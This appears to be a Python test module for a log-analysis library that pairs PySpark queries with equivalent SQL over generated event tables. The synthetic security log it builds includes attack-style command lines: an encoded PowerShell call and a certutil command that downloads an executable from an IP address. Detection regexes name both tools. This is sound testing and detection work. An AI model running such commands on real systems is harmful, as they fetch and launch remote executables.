"""Every registered query over the given tables, with the SQL that gives the same rows.

The tables aren't security logs, so queries see them as log views: a row number and text columns. ``security``
derives a log of the usual columns from ``events``; its expressions are plain SQL that both engines run.
"""

from __future__ import annotations

from pathlib import Path

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from logsift.functions import text as tx
from logsift.functions import times, values
from logsift.operators import activity as act
from logsift.operators import anomalies as an
from logsift.operators import chains as ch
from logsift.operators import documents as docs
from logsift.operators import filters, matching, paging, rollups, roles, rules, timestamps, triage
from logsift.operators.rules import Condition, Role, Rule
from logsift.sources import tables as src
from logsift.spec import Alternative, And, ColumnMeta, Filter, MatchNone, Not, Or, QuerySpec, RowIds, Search, Sort
from logsift.storage import cut, spread

QUERIES: dict = {}
ORACLE: dict = {}


def query(name: str, sql: str | None = None):
    def add(f):
        QUERIES[name] = f
        if sql is not None:
            ORACLE[name] = sql
        return f

    return add


def read(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


# --- log views -----------------------------------------------------------------------------------------------


def events_log(spark, d) -> DataFrame:
    return src.number_by(src.stringify(read(spark, d, "events"), ("event_id",)), "event_id").drop("event_id")


def docs_log(spark, d) -> DataFrame:
    return src.number_by(src.stringify(read(spark, d, "documents").select("doc_id", "text", "lang", "source"), ("doc_id",)), "doc_id").drop("doc_id")


def pages_log(spark, d) -> DataFrame:
    return src.number_by(src.stringify(read(spark, d, "pages"), ("page_id",)), "page_id").drop("page_id")


SECURITY = [
    "event_id + 1 AS row_num",
    "CASE WHEN user_id % 7 = 0 THEN 'User' || cast(user_id as string) || '@corp.example' ELSE 'CORP' || chr(92) || 'user' || cast(user_id as string) END AS account",
    "'HOST-' || cast(user_id % 23 as string) AS computer",
    "CASE event_type WHEN 'signup' THEN '4720' WHEN 'error' THEN '4625.0' WHEN 'click' THEN '4663' WHEN 'purchase' THEN '9999' ELSE '' END AS event_id",
    "CASE event_type WHEN 'view' THEN ' Process started by service ' WHEN 'purchase' THEN 'Remote access connection opened' WHEN 'click' THEN 'User added' ELSE '' END AS message",
    "CASE WHEN event_id % 997 = 0 THEN 'rare' || cast(event_id as string) || '.exe' WHEN event_id % 5 = 0 THEN 'QualysAgent.exe' ELSE 'proc-' || cast(event_id % 50 as string) || '.exe' END AS process_name",
    "CASE event_id % 11 WHEN 0 THEN 'powershell -enc AAAA' || props WHEN 1 THEN 'certutil -urlcache http://' || cast(event_id % 256 as string) || '.2.3.4/a.exe c:' || chr(92) || 'users' || chr(92) || 'public' || chr(92) || 'a.exe' WHEN 2 THEN 'open invoice.pdf.exe from 10.0.0.1. or 192.168.01.7' ELSE 'run --id ' || props END AS command_line",
    "cast((event_id * 7) % 223 + 1 as string) || '.' || cast(event_id % 256 as string) || '.' || cast(user_id % 4 as string) || '.9' || CASE WHEN event_id % 3 = 0 THEN ':443' ELSE '' END AS source_ip",
    "CASE user_id % 7 WHEN 0 THEN 'Mozilla/5.0 Chrome/120 Edg/120' WHEN 1 THEN 'Mozilla/5.0 Firefox/121' WHEN 2 THEN 'Mozilla/5.0 Chrome/120 Safari/537' WHEN 3 THEN 'Mozilla/5.0 Version/17 Safari/605' WHEN 4 THEN 'Opera/9' WHEN 5 THEN 'Mozilla/4.0 (MSIE 6.0)' ELSE 'curl/8' END AS user_agent",
]
META = [ColumnMeta(n, n) for n in ("account", "computer", "event_id", "message", "process_name", "command_line", "source_ip", "user_agent")]
ROLES = {"user": Role("account", status="confirmed"), "host": Role("computer", status="confirmed"), "process_name": Role("process_name", status="confirmed"), "command_line": Role("command_line", status="confirmed"), "ip": Role("source_ip", status="confirmed")}
_SEC = f"WITH sec AS (SELECT {', '.join(SECURITY)} FROM events) "


def security(spark, d) -> DataFrame:
    return read(spark, d, "events").selectExpr(*SECURITY)


def security_times(spark, d) -> DataFrame:
    """row_time of the events: they have real times, which are written as text and normalised."""
    log = events_log(spark, d).select("row_num", F.concat("ts", F.lit("Z")).alias("ts"))
    return timestamps.normalize_timestamps(log, "ts")


_TIMES = "(SELECT event_id + 1 AS row_num, epoch_us(ts) // 1000 AS epoch_ms FROM events)"

# --- filters, search, sort, pages ----------------------------------------------------------------------------


@query("page_errors", "SELECT event_id + 1 AS row_num, CAST(user_id AS VARCHAR) AS user_id, event_type FROM events WHERE event_type = 'error' AND value > 10 ORDER BY ts DESC, event_id DESC LIMIT 50")
def page_errors(spark, d):
    """The newest 50 errors over 10: filters, numeric comparison, sort, keyset page."""
    spec = QuerySpec(filters=(Filter("event_type", "equals", "error"), Filter("value", "greaterThan", "10")), sort=Sort("ts", True), limit=49)
    return paging.page_frame(events_log(spark, d), spec).select("row_num", "user_id", "event_type")


_OPS = {
    "equals": (Filter("event_type", "equals", "click"), "event_type = 'click'"),
    "notEquals": (Filter("event_type", "notEquals", "click"), "event_type <> 'click'"),
    "contains": (Filter("event_type", "contains", "RR"), "event_type LIKE '%rr%'"),
    "notContains": (Filter("event_type", "notContains", "I"), "event_type NOT LIKE '%i%'"),
    "startsWith": (Filter("event_type", "startsWith", "Si"), "event_type LIKE 'si%'"),
    "endsWith": (Filter("event_type", "endsWith", "W"), "event_type LIKE '%w'"),
    "isEmpty": (Filter("props", "isEmpty"), "props IS NULL OR props = ''"),
    "isNotEmpty": (Filter("props", "isNotEmpty"), "props <> ''"),
    "greaterThan": (Filter("value", "greaterThan", "99.5"), "value > 99.5"),
    "lessThan": (Filter("value", "lessThan", "1e1"), "value < 10"),
    "textGreater": (Filter("ts", "greaterThan", "2024-01-15T12:00:00"), "ts > TIMESTAMP '2024-01-15 12:00:00'"),
    "and": (And((Filter("event_type", "equals", "view"), Filter("value", "greaterThan", "50"))), "event_type = 'view' AND value > 50"),
    "or": (Or((Filter("event_type", "equals", "view"), Filter("value", "lessThan", "2"))), "event_type = 'view' OR value < 2"),
    "not": (Not(Filter("value", "greaterThan", "5")), "NOT coalesce(value > 5, false)"),
    "rowIds": (RowIds((1, 5, 5, 99)), "event_id + 1 IN (1, 5, 99)"),
    "matchNone": (MatchNone(), "false"),
}


@query("filter_operators", " UNION ALL ".join(f"SELECT '{k}' AS op, event_id + 1 AS row_num FROM events WHERE {sql}" for k, (_, sql) in _OPS.items()))
def filter_operators(spark, d):
    """Every filter operator over all events in one pass: (op, row_num)."""
    log = events_log(spark, d)
    held = [F.when(filters.compile_node(node, log.columns), F.lit(k)) for k, (node, _) in _OPS.items()]
    return log.select(F.explode(F.array_compact(F.array(*held))).alias("op"), "row_num")


_FOLDED = f"' ' || trim(regexp_replace(translate(lower(%s), '{tx._MARKED}', '{tx._PLAIN}'), '[^\\p{{L}}\\p{{N}}]+', ' ', 'g')) || ' '"


@query("search_phrase", f"SELECT doc_id + 1 AS row_num, source FROM documents WHERE {_FOLDED % 'text'} LIKE '% of the %'")
def search_phrase(spark, d):
    """Documents with a phrase of whole tokens: case and marks folded, punctuation passed over."""
    return filters.where(docs_log(spark, d), QuerySpec(search="Of, THE")).select("row_num", "source")


@query("search_not", f"SELECT doc_id + 1 AS row_num FROM documents WHERE lang <> 'en' AND NOT ({_FOLDED % 'text'} LIKE '% en la %')")
def search_not(spark, d):
    """A complement inside a filter."""
    spec = QuerySpec(filters=(Filter("lang", "notEquals", "en"),), expression=Not(Search("en la")))
    return filters.where(docs_log(spark, d), spec).select("row_num")


_ALTERNATIVES = [Alternative(("the that",), (Filter("lang", "equals", "en"),), "english"), Alternative((), (Filter("source", "equals", "src3"),), "source"), Alternative(("der und",), (), "german")]


@query("alternatives_explained", f"""
WITH m AS (SELECT doc_id + 1 AS row_num, {_FOLDED % 'text'} AS t, lang, source FROM documents),
w AS (SELECT row_num, concat_ws(' | ', CASE WHEN t LIKE '% the that %' AND lang = 'en' THEN 'english: contains ''the that'', lang equals ''en''' END,
  CASE WHEN source = 'src3' THEN 'source: source equals ''src3''' END, CASE WHEN t LIKE '% der und %' THEN 'german: contains ''der und''' END) AS why FROM m)
SELECT * FROM w WHERE why <> ''""")  # fmt: skip
def alternatives_explained(spark, d):
    """Rows that some alternative finds, with the reasons of all that do."""
    log = docs_log(spark, d)
    found = filters.where(log, filters.alternatives_to_spec(_ALTERNATIVES))
    return filters.explain_matches(found, _ALTERNATIVES).select("row_num", F.array_join("why_matched", " | ").alias("why"))


@query("count_rows", "SELECT count(*) AS n FROM lineitem WHERE l_returnflag = 'R' AND l_quantity > 30")
def count_rows(spark, d):
    """How many rows a view has."""
    spec = QuerySpec(filters=(Filter("l_returnflag", "equals", "R"), Filter("l_quantity", "greaterThan", "30")))
    return paging.count_rows(read(spark, d, "lineitem").withColumn("row_num", F.col("l_orderkey")), spec)


@query("sorted_view", "SELECT o_orderkey + 1 AS row_num, o_orderpriority, o_orderstatus FROM orders WHERE o_orderstatus <> 'P' ORDER BY o_orderpriority DESC, row_num DESC")
def sorted_view(spark, d):
    """A whole view in text order, rows as the tie-break."""
    log = src.number_by(read(spark, d, "orders"), "o_orderkey")
    return paging.sort(log, QuerySpec(filters=(Filter("o_orderstatus", "notEquals", "P"),), sort=Sort("o_orderpriority", True))).select("row_num", "o_orderpriority", "o_orderstatus")


@query("page_after_cursor", "SELECT event_id + 1 AS row_num, event_type FROM events WHERE event_type > 'error' OR (event_type = 'error' AND event_id + 1 > 40) ORDER BY event_type, row_num LIMIT 201")
def page_after_cursor(spark, d):
    """The page (and one row) after a cursor."""
    from logsift.spec import Cursor

    return paging.page_frame(events_log(spark, d), QuerySpec(sort=Sort("event_type"), cursor=Cursor(40, "error"))).select("row_num", "event_type")


@query("page_by_time", f"SELECT row_num, epoch_ms FROM (SELECT e.event_id + 1 AS row_num, CASE WHEN event_type <> 'view' THEN epoch_us(ts) // 1000 END AS epoch_ms FROM events e) ORDER BY epoch_ms DESC NULLS LAST, row_num DESC LIMIT 201")
def page_by_time(spark, d):
    """The newest page by time; rows without a time come last."""
    log = events_log(spark, d)
    times_ = security_times(spark, d).join(log.filter("event_type <> 'view'").select("row_num"), "row_num", "left_semi")
    return paging.page_by_time(log, times_, QuerySpec(), descending=True).select("row_num", "epoch_ms")


@query("export_by_time", "SELECT CAST(user_id AS VARCHAR) AS \"User\", event_type AS \"Type\" FROM events WHERE event_type <> 'view'")
def export_by_time(spark, d):
    """An export under the original headers in time order."""
    meta = [ColumnMeta("user_id", "User"), ColumnMeta("event_type", "Type")]
    return src.export_frame(events_log(spark, d), meta, QuerySpec(filters=(Filter("event_type", "notEquals", "view"),)), security_times(spark, d), "asc")


@query("stringified", "SELECT event_id + 1 AS row_num, strftime(ts, '%Y-%m-%dT%H:%M:%S') || rtrim(rtrim(strftime(ts, '.%f'), '0'), '.') AS ts, CAST(user_id AS VARCHAR) AS user_id, event_type FROM events")
def stringified(spark, d):
    """Typed cells as text."""
    return events_log(spark, d).select("row_num", "ts", "user_id", "event_type")


@query("row_numbers", "SELECT row_number() OVER (ORDER BY c_custkey) AS row_num, c_name FROM customer")
def row_numbers(spark, d):
    """Dense row numbers in two passes."""
    return src.with_row_num(read(spark, d, "customer").select("c_custkey", "c_name"), "c_custkey").select("row_num", "c_name")


_PRINTED = ("l_orderkey", "l_partkey", "l_suppkey", "l_linenumber", "l_returnflag", "l_linestatus")


@query("fingerprint", f"SELECT count(*) AS rows, CAST(sum(CAST(CAST('0x' || substr(md5(concat_ws(chr(31), {', '.join(_PRINTED)})), 1, 15) AS BIGINT) AS HUGEINT)) AS VARCHAR) AS digest FROM lineitem")
def fingerprint(spark, d):
    """An order-independent digest of all line items."""
    return src.fingerprint(read(spark, d, "lineitem").select(*_PRINTED))


# --- times ---------------------------------------------------------------------------------------------------

_SHAPES = {0: "epoch", 1: "epoch", 2: "explicit_offset", 3: "naive_with_fixed_offset"}


def mixed_times(spark, d) -> DataFrame:
    """The events' times as seconds, milliseconds, with an offset and without, by row."""
    e, kind = read(spark, d, "events"), F.col("event_id") % 4
    ms = F.unix_millis(F.col("ts").cast("timestamp")).cast("string")
    two = F.date_format(F.col("ts") + F.expr("interval 2 hours"), "yyyy-MM-dd'T'HH:mm:ss.SSS")
    shown = F.when(kind == 0, F.substring(ms, 1, 10)).when(kind == 1, ms).when(kind == 2, F.concat(two, F.lit("+0200"))).otherwise(F.replace(two, F.lit("T"), F.lit(" ")))
    return e.select((F.col("event_id") + 1).alias("row_num"), shown.alias("t"))


@query("times_normalized", "SELECT event_id + 1 AS row_num, CASE WHEN event_id % 4 = 0 THEN epoch_us(ts) // 1000000 * 1000 ELSE epoch_us(ts) // 1000 END AS epoch_ms, CASE event_id % 4 WHEN 2 THEN 'explicit_offset' WHEN 3 THEN 'naive_with_fixed_offset' ELSE 'epoch' END AS parse_status FROM events")
def times_normalized(spark, d):
    """Times of mixed forms to UTC."""
    return timestamps.normalize_timestamps(mixed_times(spark, d), "t", tz="UTC+2:00").select("row_num", "epoch_ms", "parse_status")


@query("times_named_zone", "SELECT event_id + 1 AS row_num, epoch_us(ts) // 60000000 * 60000 AS epoch_ms, 'naive_with_iana_timezone' AS parse_status FROM events")
def times_named_zone(spark, d):
    """Slash dates in a named zone: the convention is inferred, gaps and overlaps would be errors."""
    local = F.date_format(F.from_utc_timestamp("ts", "Europe/Bucharest"), "M/d/yyyy HH:mm")
    log = read(spark, d, "events").select((F.col("event_id") + 1).alias("row_num"), local.alias("t"))
    return timestamps.normalize_timestamps(log, "t", tz="Europe/Bucharest").select("row_num", "epoch_ms", "parse_status")


@query("times_analyzed", "SELECT count(*) AS rows, CAST(sum(CASE WHEN event_id % 4 < 2 THEN 1 ELSE 0 END) AS BIGINT) AS epoch_rows, CAST(sum(CASE WHEN event_id % 4 = 2 THEN 1 ELSE 0 END) AS BIGINT) AS explicit_offset_rows, CAST(sum(CASE WHEN event_id % 4 = 3 THEN 1 ELSE 0 END) AS BIGINT) AS naive_rows, CAST(0 AS BIGINT) AS invalid_rows, true AS needs_timezone FROM events")
def times_analyzed(spark, d):
    """Kinds of times in a column and the questions they leave."""
    return timestamps.analyze_timestamps(mixed_times(spark, d), "t").select("rows", "epoch_rows", "explicit_offset_rows", "naive_rows", "invalid_rows", "needs_timezone")


@query("date_convention", "SELECT bool_or(day(l_shipdate) > 12) AS month_first, false AS day_first, 'month_first' AS inferred, false AS conflicting, count(*) FILTER (day(l_shipdate) <= 12) AS ambiguous_rows FROM lineitem")
def date_convention(spark, d):
    """The convention of slash dates from all line items."""
    log = read(spark, d, "lineitem").select(F.col("l_orderkey").alias("row_num"), F.date_format("l_shipdate", "MM/dd/yyyy").alias("t"))
    return timestamps.infer_date_convention(log, "t").drop("ambiguous_samples")


@query("slash_evidence", "SELECT o_orderkey + 1 AS row_num, CASE WHEN day(o_orderdate) > 12 THEN 'day_first' ELSE 'ambiguous' END AS evidence FROM orders")
def slash_evidence(spark, d):
    """What each slash date shows by itself."""
    return read(spark, d, "orders").select((F.col("o_orderkey") + 1).alias("row_num"), times.slash_evidence(F.date_format("o_orderdate", "dd/MM/yyyy")).alias("evidence"))


# --- roles, rules, matches -----------------------------------------------------------------------------------


@query("value_predicates", _SEC + r"""
, v AS (SELECT row_num, account, process_name, command_line, source_ip FROM sec)
SELECT row_num, account LIKE '%@%' AS identity, process_name LIKE '%.exe' AS process,
  regexp_matches(command_line, '\.exe') OR command_line LIKE 'powershell%' AS command,
  split_part(source_ip, ':', 1) AS ip FROM v""")
def value_predicates(spark, d):
    """Single values by what they look like."""
    c = F.col
    return security(spark, d).select("row_num", values.is_identity_like(c("account")).alias("identity"), values.is_process_name_like(c("process_name")).alias("process"), values.is_command_line_like(c("command_line")).alias("command"), values.parse_ip(c("source_ip")).alias("ip"))


# points of the headers as they stand in META; every value is judged by plain patterns
_POINTS = [("user", 1, "account", 0.45), ("command_line", 2, "command_line", 0.55), ("process_name", 3, "process_name", 0.4), ("host", 5, "computer", 0.42), ("ip", 6, "source_ip", 0.48), ("text_evidence", 7, "message", 0.38)]
_ROLES = _SEC.replace("WITH ", "WITH RECURSIVE ", 1) + f""", cells AS ({" UNION ALL ".join(f"SELECT {i} AS pos, '{m.name}' AS c, trim({m.name}) AS v FROM sec" for i, m in enumerate(META))}),
f AS (SELECT *, lower(v) AS low, regexp_matches(v, '^[0-9]+([.][0-9]+){{3}}(:[0-9]+)?$') AS ip, strlen(v) >= 12 AND (regexp_matches(lower(v), '(powershell|certutil).*( -|="| /)') OR (regexp_matches(lower(v), 'powershell|certutil') AND strlen(v) >= 30) OR (lower(v) LIKE '%.exe%' AND regexp_matches(v, '[^ ] +[^ ]'))) AS cmd FROM cells WHERE v <> ''),
p AS (SELECT c, pos, count(*) AS total, avg(CAST(NOT regexp_matches(v, '[\\\\/]|^[A-Za-z]:') AND low NOT LIKE '%.exe' AND NOT ip AND (regexp_matches(v, '^[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+[.][A-Za-z0-9-]+$') OR (regexp_matches(v, '^[A-Za-z0-9_$-]{{2,64}}$') AND regexp_matches(v, '[A-Za-z]'))) AS INTEGER)) AS user_share,
  avg(CAST(cmd AS INTEGER)) AS cmd_share, avg(CAST(strlen(v) >= 40 AS INTEGER)) AS long_share, avg(CAST(NOT cmd AND regexp_matches(low, '^[^ ]+[.]exe$') AS INTEGER)) AS process_share,
  avg(CAST(NOT cmd AND regexp_matches(v, '[\\\\/]|^[A-Za-z]:.|[.][^.\\\\/]{{2,8}}$') AS INTEGER)) AS file_share, avg(CAST(NOT ip AND regexp_matches(v, '^[A-Za-z0-9._-]+$') AND regexp_matches(v, '[A-Za-z]') AS INTEGER)) AS host_share,
  avg(CAST(ip AS INTEGER)) AS ip_share, avg(CAST(strlen(v) >= 25 AND regexp_matches(v, '\\s') AS INTEGER)) AS text_share FROM f GROUP BY ALL),
h(role, role_at, c, points) AS (VALUES {", ".join(str(x) for x in _POINTS)}),
r(role, role_at, least_points) AS (VALUES ('user', 1, 0.3), ('command_line', 2, 0.3), ('process_name', 3, 0.25), ('file_name', 4, 0.25), ('host', 5, 0.25), ('ip', 6, 0.3), ('text_evidence', 7, 0.25)),
x AS (SELECT r.role, r.role_at, p.c, p.pos, p.total, least_points, coalesce(points, 0)::DOUBLE + CASE r.role WHEN 'user' THEN CASE WHEN user_share >= 0.35 THEN user_share * 0.42 ELSE 0 END
  WHEN 'command_line' THEN CASE WHEN cmd_share >= 0.25 THEN cmd_share * 0.36 ELSE 0 END + CASE WHEN long_share >= 0.3 THEN long_share * 0.12 ELSE 0 END WHEN 'process_name' THEN CASE WHEN process_share >= 0.35 THEN process_share * 0.45 ELSE 0 END
  WHEN 'file_name' THEN CASE WHEN file_share >= 0.35 THEN file_share * 0.42 ELSE 0 END WHEN 'host' THEN CASE WHEN host_share >= 0.35 THEN host_share * 0.38 ELSE 0 END
  WHEN 'ip' THEN CASE WHEN ip_share >= 0.3 THEN ip_share * 0.45 ELSE 0 END ELSE CASE WHEN text_share >= 0.35 THEN text_share * 0.32 ELSE 0 END END AS score
  FROM r CROSS JOIN p LEFT JOIN h ON h.role = r.role AND h.c = p.c WHERE NOT (r.role = 'user' AND p.c = 'user_agent')),
k AS (SELECT *, row_number() OVER (ORDER BY score DESC, role_at, pos) AS k FROM x WHERE score >= least_points),
g(k, roles, cols) AS (SELECT 0::BIGINT, []::VARCHAR[], []::VARCHAR[] UNION ALL
  SELECT k.k, CASE WHEN list_contains(roles, role) OR list_contains(cols, c) THEN roles ELSE list_append(roles, role) END, CASE WHEN list_contains(roles, role) OR list_contains(cols, c) THEN cols ELSE list_append(cols, c) END FROM g JOIN k ON k.k = g.k + 1),
t AS (SELECT unnest(roles) AS role, unnest(cols) AS c FROM g WHERE g.k = (SELECT max(k) FROM g))
SELECT role, c AS "column", round(least(1, score), 6) AS confidence, total FROM t JOIN k USING (role, c)"""


@query("roles_detected", _ROLES)
def roles_detected(spark, d):
    """Roles of the security log's columns from all of its rows."""
    return roles.assigned(roles.role_scores(security(spark, d), META, sample_rows=None)).select("role", "column", "confidence", "total")


@query("value_profile", _SEC + "SELECT 'process_name' AS \"column\", count(*) AS total, count(*) FILTER (process_name LIKE '%.exe') AS process, CAST(0 AS BIGINT) AS ip FROM sec UNION ALL SELECT 'source_ip', count(*), 0, count(*) FROM sec")
def value_profile(spark, d):
    """How many values of each column look like what."""
    return roles.value_profile(security(spark, d), ["process_name", "source_ip"], None).select("column", "total", "process", "ip")


_IGNORE = [*rules.load_rules(), Rule("quiet", "Quiet hosts", (Condition("equals_any", ("host-3", "HOST-4"), "host"), Condition("ends_with_any", ("49.exe",), headers=("ProcessName",))))]


@query("ignored_rows", _SEC + "SELECT row_num, CASE WHEN lower(process_name) LIKE '%qualys%' THEN 'qualys-agent' ELSE 'quiet' END AS rule_id, CASE WHEN lower(process_name) LIKE '%qualys%' THEN process_name ELSE computer END AS matched_value FROM sec WHERE lower(process_name) LIKE '%qualys%' OR (computer IN ('HOST-3', 'HOST-4') AND process_name LIKE '%49.exe')")
def ignored_rows(spark, d):
    """Rows that ignore rules suppress, with the rule and the value."""
    return rules.ignored_rows(security(spark, d), _IGNORE, META, ROLES).select("row_num", "rule_id", "matched_value")


@query("ignore_summary", _SEC + ", i AS (SELECT CASE WHEN lower(process_name) LIKE '%qualys%' THEN 'qualys-agent' WHEN computer IN ('HOST-3', 'HOST-4') AND process_name LIKE '%49.exe' THEN 'quiet' END AS rule_id FROM sec) SELECT rule_id, count(*) AS rows FROM i WHERE rule_id IS NOT NULL GROUP BY rule_id")
def ignore_summary(spark, d):
    return rules.ignore_summary(rules.ignored_rows(security(spark, d), _IGNORE, META, ROLES)).select("rule_id", "rows")


# a small library of words that the documents have
_WORDS = [("W1", "Articles", [("TA1", "Function words")], [("the", "word", 20), ("der", "word", 20)]), ("W2", "Endings", [("TA2", "Affixes"), ("TA1", "Function words")], [("tion", "substring", 40), ("keit", "substring", 40)]), ("W3", "Dangerous words", [("TA3", "Abuse")], [("Idiot", "substring", 90), ("trash", "word", 80), ("de la", "substring", 10)])]
LIBRARY = matching.Library(tuple({"techniqueId": i, "name": n, "tactics": [{"id": a, "name": b} for a, b in t], "aliases": [], "keywords": [{"id": f"{i}-{k}", "pattern": p, "match": m, "score": s} for k, (p, m, s) in enumerate(ks)]} for i, n, t, ks in _WORDS), ())
_PATTERNS = "(VALUES " + ", ".join(f"('{i}', '{n}', '{a}', '{p}', '{p.lower()}', {'true' if m == 'word' or (p.isalnum() and len(p) <= 3) else 'false'}, {s})" for i, n, t, ks in _WORDS for a, _ in t for p, m, s in ks) + ") AS p(technique_id, technique_name, tactic_id, keyword, folded, whole, score)"
_AZ = "'ABCDEFGHIJKLMNOPQRSTUVWXYZ', 'abcdefghijklmnopqrstuvwxyz'"
_MATCHES = f"""m AS (SELECT row_num, technique_id, technique_name, tactic_id, keyword, score FROM (
  SELECT doc_id + 1 AS row_num, translate(text, {_AZ}) AS low, p.* FROM documents, {_PATTERNS} WHERE strpos(translate(text, {_AZ}), folded) > 0)
  WHERE NOT whole OR NOT regexp_matches(CASE WHEN strpos(low, folded) > 1 THEN substr(low, strpos(low, folded) - 1, 1) ELSE '' END || substr(low, strpos(low, folded) + length(folded), 1), '[\\p{{L}}\\p{{N}}]'))"""


def doc_matches(spark, d) -> DataFrame:
    return matching.match_keywords(docs_log(spark, d), LIBRARY, ["text"])


@query("keyword_matches", f"WITH {_MATCHES} SELECT row_num, technique_id, tactic_id, keyword, CAST(score AS INTEGER) AS score FROM m")
def keyword_matches(spark, d):
    """Many patterns over all documents: one row a cell, pattern and tactic."""
    return doc_matches(spark, d).select("row_num", "technique_id", "tactic_id", "keyword", "score")


@query("technique_counts", f"WITH {_MATCHES} SELECT technique_id, count(DISTINCT (row_num, keyword)) AS matches, count(DISTINCT row_num) AS rows FROM m GROUP BY technique_id")
def technique_counts(spark, d):
    return matching.technique_counts(doc_matches(spark, d)).select("technique_id", "matches", "rows")


@query("tactic_counts", f"WITH {_MATCHES} SELECT tactic_id, count(*) AS matches, count(DISTINCT row_num) AS rows FROM m GROUP BY tactic_id")
def tactic_counts(spark, d):
    return matching.tactic_counts(doc_matches(spark, d)).select("tactic_id", "matches", "rows")


@query("scan_summary", f"WITH {_MATCHES} SELECT (SELECT count(*) FROM documents) AS rows_scanned, count(*) AS match_count, count(DISTINCT row_num) AS matched_rows FROM m")
def scan_summary(spark, d):
    return matching.scan_summary(docs_log(spark, d), doc_matches(spark, d))


def _keyword_sql(library, cells: str) -> str:
    """All keyword columns of a library's matches in ``cells`` (row_num, column_name, cell)."""
    quote = lambda v: "'" + v.replace("'", "''") + "'"
    rows = [f"({quote(t['techniqueId'])}, {quote(t['name'])}, {quote(x['id'])}, {quote(x['name'])}, {quote(k['pattern'])}, {quote(matching._fold(k['pattern']))}, {str(k.get('match') == 'word' or (k['pattern'].isalnum() and len(k['pattern']) <= 3)).lower()}, {k['score']})" for t in library.techniques for x in t["tactics"] for k in t["keywords"]]
    return f"""SELECT row_num, tactic_id, tactic_name, technique_id, technique_name, keyword, column_name, CAST(score AS INTEGER) AS score, 'keyword' AS source FROM (
  SELECT row_num, column_name, translate(cell, {_AZ}) AS low, p.* FROM {cells}, (VALUES {', '.join(rows)}) AS p(technique_id, technique_name, tactic_id, tactic_name, keyword, folded, whole, score) WHERE strpos(translate(cell, {_AZ}), folded) > 0)
  WHERE NOT whole OR NOT regexp_matches(CASE WHEN strpos(low, folded) > 1 THEN substr(low, strpos(low, folded) - 1, 1) ELSE '' END || substr(low, strpos(low, folded) + length(folded), 1), '[\\p{{L}}\\p{{N}}]')"""


_KEPT = "k AS (SELECT * FROM sec WHERE lower(process_name) NOT LIKE '%qualys%' AND lower(process_name) NOT LIKE '%msedge_crashpad_handler.exe%')"
_EVIDENCE = " UNION ALL ".join(f"SELECT row_num, '{c}' AS column_name, {c} AS cell FROM k" for c in ("command_line", "process_name", "computer"))


@query("builtin_matches", f"{_SEC}, {_KEPT} {_keyword_sql(matching.load_library(), f'({_EVIDENCE})')}")
def builtin_matches(spark, d):
    """The built-in library over the security log, ignored rows left out; its rules need columns that this log hasn't."""
    log = security(spark, d)
    return matching.scan(log, matching.load_library(), META, ROLES, rules.ignored_rows(log, rules.load_rules(), META, ROLES))


@query("tagged_text", r"""
WITH w AS (SELECT conv_id, turn, ' ' || trim(regexp_replace(lower(coalesce(text, '')), '[^0-9a-z]+', ' ', 'g')) || ' ' AS t FROM conversations),
terms(technique_id, term) AS (VALUES """ + ", ".join(f"('{t}', ' {p} ')" for t, p in matching._terms(LIBRARY)) + ") SELECT DISTINCT conv_id * 1000 + turn AS row_num, technique_id FROM w, terms WHERE contains(t, term)")
def tagged_text(spark, d):
    """Techniques that a chat turn names."""
    log = read(spark, d, "conversations").select((F.col("conv_id") * 1000 + F.col("turn")).alias("row_num"), "text")
    return matching.tag_text(log, "text", LIBRARY)


@query("suspicious_rows", f"WITH {_MATCHES} SELECT doc_id + 1 AS row_num, lang FROM documents WHERE doc_id + 1 IN (SELECT row_num FROM m WHERE tactic_id = 'TA3' OR technique_id = 'W2')")
def suspicious_rows(spark, d):
    return ch.timeline(docs_log(spark, d), doc_matches(spark, d), tactics=["TA3"], techniques=["W2"]).select("row_num", "lang")


@query("user_timeline", f"WITH t AS {_TIMES} SELECT e.event_id + 1 AS row_num, t.epoch_ms FROM events e JOIN t ON t.row_num = e.event_id + 1 WHERE event_type = 'error' AND user_id = 8")
def user_timeline(spark, d):
    """One user's matched rows in time order."""
    log = events_log(spark, d)
    matches = log.filter("event_type = 'error'").select("row_num", F.lit("TA1").alias("tactic_id"), F.lit("T1").alias("technique_id"))
    return ch.timeline(log, matches, security_times(spark, d), techniques=["T1"], user=("user_id", "8")).select("row_num", "epoch_ms")


@query("identity", _SEC + "SELECT false AS overflow, min(account) AS \"user\" FROM sec WHERE translate(account, " + _AZ + ") = 'user8' OR translate(account, " + _AZ + ") LIKE '%' || chr(92) || 'user8' OR translate(account, " + _AZ + ") LIKE 'user8@%' GROUP BY lower(account)")
def identity(spark, d):
    """Spellings of a bare user name."""
    return ch.resolve_identity(security(spark, d), "account", "USER8")


# --- chains --------------------------------------------------------------------------------------------------


def event_matches(spark, d) -> DataFrame:
    return events_log(spark, d).select("row_num", F.col("event_type").alias("tactic_id"), F.col("event_type").alias("tactic_name"), F.concat(F.lit("T-"), "event_type").alias("technique_id"), F.col("event_type").alias("technique_name"), F.lit(50).alias("score"), F.lit("").alias("keyword"), F.lit("event_type").alias("column_name"))


@query("chains_by_time", """
WITH RECURSIVE e AS (SELECT CAST(user_id AS VARCHAR) AS host, epoch_us(ts) // 1000 AS t, event_id + 1 AS row_num, event_type AS kind FROM events),
c AS (SELECT DISTINCT host, t FROM (SELECT host, t, len(list_distinct(list(kind) OVER (PARTITION BY host ORDER BY t RANGE BETWEEN CURRENT ROW AND 3600000 FOLLOWING))) AS n FROM e) WHERE n >= 3),
r(host, s) AS (SELECT host, min(t) FROM c GROUP BY host UNION ALL SELECT r.host, min(c.t) FROM r JOIN c ON c.host = r.host AND c.t > r.s + 3600000 GROUP BY r.host),
i AS (SELECT e.*, s FROM e JOIN r ON e.host = r.host AND e.t BETWEEN s AND s + 3600000),
k AS (SELECT host, s, string_agg(kind, '>' ORDER BY first) AS tactics, count(*) AS n FROM (SELECT host, s, kind, min((t, row_num)) AS first FROM i GROUP BY ALL) GROUP BY ALL)
SELECT host, CAST(least(100, 50 + 10 * (n - 1)) AS INTEGER) AS score, CAST(n AS INTEGER) AS tactic_count, tactics, count(*) AS event_count, min(t) AS first_epoch_ms, max(t) AS last_epoch_ms, min(row_num) AS first_row, max(row_num) AS last_row
FROM i JOIN k USING (host, s) GROUP BY host, s, n, tactics""")
def chains_by_time(spark, d):
    """Windows of an hour in which a user has three kinds of events."""
